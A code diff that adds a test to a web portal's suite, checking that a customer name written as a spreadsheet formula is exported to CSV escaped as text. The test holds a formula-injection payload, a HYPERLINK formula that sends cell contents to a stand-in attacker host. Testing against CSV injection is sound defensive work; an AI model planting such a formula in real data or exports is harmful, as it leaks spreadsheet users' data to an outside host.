@@ -156,6 +156,19 @@ def test_department_list_filters_by_grade_and_exports_csv(app):
     assert len(list(csv.DictReader(io.StringIO(vip_only.lstrip("\ufeff"))))) == 1
 
 
+def test_SEC_2_a_customer_named_like_a_formula_is_exported_as_text(app):
+    from tests.factories import register, stand
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    customer, _ctx = register(name=hostile)
+    stand(customer, "ortho")
+    client = app.test_client()
+    sign_in(client, "ortho.clerk@demo.local")
+    text = client.get("/staff/departments/ortho/customers.csv").get_data(as_text=True)
+    [row] = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+    assert row["name"] == "'" + hostile and row["customer_id"] == customer.customer_id
+
+
 def test_RGT_2_customer_dashboard_shows_tier_and_priorities_and_the_api_rank(app):
     customer, ctx, app_ = applied(email="tier@kangjian.cn")
     from portal.services import applications
